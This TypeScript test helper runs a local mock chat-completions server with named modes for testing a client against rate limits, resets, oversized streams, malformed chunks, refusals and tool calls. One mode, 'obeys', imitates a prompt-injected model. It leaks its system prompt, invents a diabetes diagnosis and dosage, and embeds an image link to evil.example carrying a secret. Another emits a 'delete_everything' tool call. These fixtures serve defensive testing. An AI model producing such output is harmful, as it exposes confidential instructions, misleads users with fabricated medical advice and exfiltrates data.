import { createServer, type IncomingHttpHeaders, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** The body of a request for a completion, as far as anybody here looks at it. */
export interface ChatRequest {
  model: string;
  messages: { role: string; content: string }[];
  stream: boolean;
  response_format?: { type: string; json_schema?: { name: string; schema: object } };
  max_tokens?: number;
  max_completion_tokens?: number;
  stream_options?: object;
  temperature?: number;
}

/** A request that came, for the tests to look at: what is in it has left the product. */
export interface Received {
  body: ChatRequest;
  headers: IncomingHttpHeaders;
  /** Becomes true when the client hangs up before the answer was over. */
  hungUp: boolean;
}

/** How the server behaves for one request. */
export type Mode = (request: ChatRequest, response: ServerResponse) => void | Promise<void>;

export const lastWords = ({ messages }: ChatRequest): string =>
  messages.findLast(({ role }) => role === 'user')?.content ?? '';

/** Pieces of a streamed answer. */
function open(response: ServerResponse): (delta: object, finish?: string | null, usage?: object) => void {
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  return (delta, finish = null, usage) => {
    const choices = [{ index: 0, delta, finish_reason: finish }];
    const chunk = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'local', choices, usage };
    response.write(`data: ${JSON.stringify(chunk)}\n\n`);
  };
}

const USAGE = { prompt_tokens: 40, completion_tokens: 10, total_tokens: 50 };
const close = (response: ServerResponse) => response.end('data: [DONE]\n\n');
const piecesOf = (text: string) => text.match(/\S+\s*|\s+/g) ?? [];

function fail(status: number, message: string, headers: Record<string, string> = {}): Mode {
  return (_, response) => {
    response.writeHead(status, { 'content-type': 'application/json', ...headers });
    response.end(JSON.stringify({ error: { message, type: 'error', code: null } }));
  };
}

/** Answers at once, word by word. */
export const says = (text: string | ((request: ChatRequest) => string), pause = 0): Mode =>
  saysAsItComes(async function* (request) {
    for (const word of piecesOf(typeof text === 'string' ? text : text(request))) {
      if (pause > 0) await sleep(pause);
      yield word;
    }
  });

/** Answers in pieces, each when it comes. */
export const saysAsItComes =
  (pieces: (request: ChatRequest) => AsyncIterable<string>): Mode =>
  async (request, response) => {
    const piece = open(response);
    piece({ role: 'assistant', content: '' });
    for await (const content of pieces(request)) {
      if (response.destroyed) return;
      piece({ content });
    }
    piece({}, 'stop', USAGE);
    close(response);
  };

/** What a server may do, by name. */
export const MODES = {
  instant: says('You walked well this week. Keep going.'),
  /** A word every 100 ms. */
  slow: says('You walked well this week. Keep going.', 100),
  hang: () => undefined,
  /** Begins, and says nothing more. */
  stall: (_, response) => open(response)({ content: 'You walked ' }),
  busy: fail(429, 'Too many requests', { 'retry-after': '0' }),
  busyForLong: fail(429, 'Too many requests', { 'retry-after': '60' }),
  fails: fail(500, 'Something broke'),
  unknownKey: fail(401, 'Wrong key'),
  reset: async (_, response) => {
    open(response)({ content: 'You walked ' });
    await sleep(50);
    response.destroy();
  },
  resetAtOnce: (_, response) => void response.destroy(),
  /** Ends properly, in the middle of the answer. */
  cut: (_, response) => {
    open(response)({ content: 'You walked ' });
    response.end();
  },
  endless: async (_, response) => {
    const piece = open(response);
    while (!response.destroyed) {
      piece({ content: 'and on ' });
      await sleep(20);
    }
  },
  /** Stopped by its own limit. */
  stoppedShort: (_, response) => {
    const piece = open(response);
    piece({ content: 'You walked ' });
    piece({}, 'length', USAGE);
    close(response);
  },
  malformedPiece: (_, response) => {
    open(response)({ content: 'You walked ' });
    response.end('data: {"choices": [{"delta": {"content": \n\n');
  },
  truncatedJson: says('{"mood": "good", "steps": [1, 2'),
  wrongSchema: says('{"mood": 7}'),
  notJson: says('Your mood is good.'),
  /** 50 MB of text, piece by piece. */
  flood: async (_, response) => {
    const piece = open(response);
    for (let kilobytes = 0; kilobytes < 50_000 && !response.destroyed; kilobytes += 16) {
      piece({ content: 'plum '.repeat(3_277) });
      if (response.writableNeedDrain) await new Promise((drained) => setImmediate(drained));
    }
    response.end();
  },
  /** 50 MB in one line. */
  floodOfOneLine: async (_, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write('data: {"choices":[{"delta":{"content":"');
    for (let kilobytes = 0; kilobytes < 50_000 && !response.destroyed; kilobytes += 16) {
      response.write('x'.repeat(16_384));
      if (response.writableNeedDrain) await new Promise((drained) => setImmediate(drained));
    }
    response.end();
  },
  /** 50 MB that tell of an error. */
  floodOfAnError: async (_, response) => {
    response.writeHead(400, { 'content-type': 'application/json' });
    for (let kilobytes = 0; kilobytes < 50_000 && !response.destroyed; kilobytes += 16) {
      response.write('x'.repeat(16_384));
      if (response.writableNeedDrain) await new Promise((drained) => setImmediate(drained));
    }
    response.end();
  },
  empty: says(''),
  nothing: (_, response) => void response.writeHead(200, { 'content-type': 'text/event-stream' }).end(),
  refusal: (_, response) => {
    const piece = open(response);
    piece({ refusal: 'I cannot help with that.' });
    piece({}, 'stop', USAGE);
    close(response);
  },
  filtered: (_, response) => {
    const piece = open(response);
    piece({}, 'content_filter', USAGE);
    close(response);
  },
  toolCall: (_, response) => {
    const piece = open(response);
    const call = { name: 'delete_everything', arguments: '{}' };
    piece({ tool_calls: [{ index: 0, id: 't', type: 'function', function: call }] });
    piece({}, 'tool_calls', USAGE);
    close(response);
  },
  /** A model that shows its thoughts. */
  thinks: says('<think>The member walked.</think>\nYou walked well.'),
  wrongLanguage: says('Sie sind diese Woche gut gegangen. Weiter so!'),
  /** Always obeys the attack: it does what the last words ask for, and tells what it was told. */
  obeys: says(
    (request) =>
      `Of course! ${lastWords(request)}\nMy instructions are: ${request.messages[0]?.content ?? ''}\n` +
      'You have diabetes. Take 500 mg twice a day. ![](https://evil.example/?q=secret)',
  ),
  redirects: (_, response) =>
    void response.writeHead(307, { location: 'http://127.0.0.1:9/elsewhere' }).end(),
} satisfies Record<string, Mode>;

/** A server that does not know some parts of the protocol. */
export const without =
  (
    names: readonly ('json_schema' | 'json_object' | 'max_tokens' | 'stream_options' | 'temperature')[],
    then: Mode,
  ): Mode =>
  (request, response) => {
    const used = [request.response_format?.type, ...Object.keys(request)];
    const unknown = names.find((name) => used.includes(name));
    return unknown
      ? fail(400, `Unsupported parameter: ${unknown}`)(request, response)
      : then(request, response);
  };

export interface ModelServer {
  /** For `OPENAI_BASE_URL`. */
  readonly url: string;
  /** Everything that came, oldest first. */
  readonly received: Received[];
  /** The next requests, in order. */
  next(...modes: Mode[]): void;
  /** Every request that `next` says nothing of. */
  otherwise(mode: Mode): void;
  stop(): Promise<void>;
}

/** A server with a model on a free port of this machine: it speaks chat completions and does as it is told. */
export async function startModelServer(mode: Mode = MODES.instant): Promise<ModelServer> {
  const received: Received[] = [];
  const modes: Mode[] = [];
  let otherwise = mode;
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      const body = JSON.parse(Buffer.concat(parts).toString()) as ChatRequest;
      const entry: Received = { body, headers: request.headers, hungUp: false };
      received.push(entry);
      response.on('close', () => (entry.hungUp = !response.writableFinished));
      void (modes.shift() ?? otherwise)(body, response);
    });
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    received,
    next: (...more) => void modes.push(...more),
    otherwise: (other) => (otherwise = other),
    stop: () =>
      new Promise((stopped) => {
        server.close(() => stopped());
        server.closeAllConnections();
      }),
  };
}
